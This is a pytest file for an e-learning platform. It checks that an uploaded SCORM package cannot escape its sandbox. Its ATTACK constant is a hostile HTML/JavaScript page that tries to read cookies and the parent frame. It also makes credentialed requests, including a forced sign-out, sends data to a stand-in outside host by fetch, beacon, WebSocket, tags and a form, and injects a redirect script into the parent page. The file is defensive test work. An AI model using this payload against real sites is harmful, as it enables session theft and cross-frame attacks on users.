"""A package is a program of somebody else. Played in a real browser it takes nothing and loses nothing."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.training import elearning_made as made

ATTACK = """<!doctype html><meta charset="utf-8"><title>Hostile</title><p>Hostile
<script>
const found = {}, home = "HOME", out = "OUT";
const put = (name, what) => { found[name] = String(what).slice(0, 80); };
const tried = (name, deed) => { try { put(name, deed()); } catch (fault) { put(name, "refused"); } };
const asked = async (name, deed) => { try { put(name, await deed()); } catch (fault) { put(name, "refused"); } };
tried("cookie", () => document.cookie.includes("session") ? document.cookie : "nothing");
tried("parent", () => window.top.document.title);
tried("storage", () => window.top.localStorage.length);
tried("top", () => { window.top.location.href = out + "/top"; return "asked"; });
tried("opened", () => window.open(out + "/window") ? "opened" : "nothing");
(async () => {
  await asked("api", async () => (await fetch(home + "/privacy/mine/", { credentials: "include" })).status);
  const signOut = { method: "POST", mode: "no-cors", credentials: "include" };
  await asked("post", async () => (await fetch(home + "/account/sign-out/", signOut)).type);
  await asked("fetched", async () => (await fetch(out + "/fetch", { mode: "no-cors" })).type);
  tried("beacon", () => navigator.sendBeacon(out + "/beacon", "x"));
  tried("socket", () => new WebSocket(out.replace("http", "ws") + "/socket") && "made");
  await asked("worker", () => navigator.serviceWorker.register("sw.js"));
  for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["link", "href"]]) {
    const each = document.createElement(tag);
    if (tag === "link") each.rel = "stylesheet";
    each[name] = out + "/" + tag;
    document.body.append(each);
  }
  const form = document.createElement("form");
  form.action = out + "/form";
  form.target = "nowhere";
  document.body.append(form);
  form.submit();
  const api = window.parent.API;
  api.LMSInitialize("");
  await new Promise((done) => setTimeout(done, 700));
  api.LMSSetValue("cmi.suspend_data", JSON.stringify(found));
  api.LMSCommit("");
  setTimeout(() => {
    const rogue = window.parent.document.createElement("script");
    rogue.textContent = `location.href = "${out}/wrapper"`;
    window.parent.document.body.append(rogue);
  }, 300);
})();
</script>"""
HONEST = """<!doctype html><meta charset="utf-8"><title>Honest</title><p id="told">…
<script>
let api = null;
for (let each = window; !api && each !== each.parent; each = each.parent) api = each.parent.API;
api.LMSInitialize("");
document.getElementById("told").textContent =
  api.LMSGetValue("cmi.core.entry") + " " + api.LMSGetValue("cmi.suspend_data");
window.note = (text) => api.LMSSetValue("cmi.suspend_data", text);
</script>"""


@pytest.fixture(scope="module")
def elsewhere():
    """A server of somebody else: its address, and what reached it."""
    reached = []

    class Heard(BaseHTTPRequestHandler):
        def do_GET(self):
            reached.append(self.path)
            here = f'<img src="http://127.0.0.1:{self.server.server_address[1]}/heard">'.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(here if self.path == "/page" else b"")

        do_POST = do_GET  # noqa: N815 - the name that the library calls

        def log_message(self, *said):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Heard)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", reached
    server.shutdown()


@pytest.fixture
def learner(browser, site, sessions):
    from tests.browser.conftest import Visitor

    somebody = Visitor(browser, site, sessions).signs_in("learner")
    yield somebody
    somebody.context.close()


def opened(browser, site, sessions, name, page):
    """A package of one page that a manager handed in and a focal point opened; its address."""
    from tests.browser.conftest import Visitor

    file = made.scorm12(title=name, more={"one.html": page.encode(), "sw.js": b""})
    author, reviewer = (Visitor(browser, site, sessions) for _ in range(2))
    author.signs_in("centre.manager").goes("/training/elearning/new/")
    author.page.set_input_files(
        "input[type=file]", {"name": "x.zip", "mimeType": "application/zip", "buffer": file.read()}
    )
    author.page.click("main form .button")
    author.page.wait_for_url("**/training/elearning/*-*/")
    address = author.page.url.removeprefix(site)
    reviewer.signs_in("focal.point.kaz").goes(address)
    reviewer.page.click("button[value=publish]")
    reviewer.page.wait_for_selector("text=The package is open to learners.")
    for each in (author, reviewer):
        each.context.close()
    return address


def begin(learner, address):
    learner.goes(address)
    learner.page.click("button[value=begin]")
    learner.page.wait_for_url("**/play/**")


def test_a_hostile_package_escapes_in_none_of_four_ways(browser, site, sessions, learner, elsewhere):
    """Cookies, the page around it, the node as its reader, and sending something elsewhere."""
    out, reached = elsewhere
    page = ATTACK.replace("HOME", site).replace("OUT", out)
    begin(learner, opened(browser, site, sessions, "Hostile", page))
    with learner.page.expect_response("**/commits/") as kept:
        pass
    sent = kept.value.request.post_data
    found = json.loads(json.loads(sent[sent.index('{"cmi') :].split("\r\n")[0])["cmi.suspend_data"])
    assert found == {
        "cookie": "nothing",
        "parent": "refused",
        "storage": "refused",
        "top": "refused",
        "opened": "nothing",
        "api": "refused",
        "post": "refused",
        "fetched": "refused",
        "beacon": found["beacon"],  # a browser may say that it took it, and sends nothing
        "socket": found["socket"],
        "worker": "refused",
    }
    learner.page.wait_for_function("document.querySelector('kerege-player')")  # the page outlives what is still tried
    learner.page.wait_for_timeout(800)
    assert reached == [], "nothing arrived at the attacker's"
    assert learner.page.url.startswith(site), "the page is where it was"
    asked = ", ".join(each.removeprefix("http://") for each in (site, out))
    assert learner.page.inner_text("[data-sites]") == asked, "and says who was asked"
    assert learner.goes("/privacy/mine/") == 200, "and its reader is still signed in"


def test_the_attacker_would_hear_of_it(elsewhere, browser):
    """Else the test above would pass with a server that hears nothing. This page has no policy."""
    out, reached = elsewhere
    page = browser.new_page()
    page.goto(out.replace("127.0.0.1", "localhost") + "/page")
    page.wait_for_load_state("networkidle")
    page.close()
    assert "/heard" in reached


def test_nothing_is_lost_when_the_tab_closes_and_the_learner_goes_on(browser, site, sessions, learner):
    address = opened(browser, site, sessions, "Honest", HONEST)
    begin(learner, address)
    play = learner.page.url.removeprefix(site)
    inner = _package(learner)
    assert inner.inner_text("#told") == "ab-initio"
    inner.evaluate("note('page 7')")
    learner.page.wait_for_selector("[data-say=kept]:not([hidden])")
    inner.evaluate("note('page 8')")
    learner.page.wait_for_function(
        "key => localStorage.getItem(key)?.includes('page 8')", arg=f"kerege.player.{play.split('/')[-2]}"
    )
    learner.page.close()
    learner.page = learner.context.new_page()
    learner.goes(play)
    assert _package(learner).inner_text("#told") == "resume page 8"
    assert learner.violations() == {}


def _package(learner):
    learner.page.wait_for_selector("[data-say=shown]:not([hidden])")
    inner = next(frame for frame in learner.page.frames if frame.url.endswith("/one.html"))
    inner.wait_for_selector("#told")
    return inner
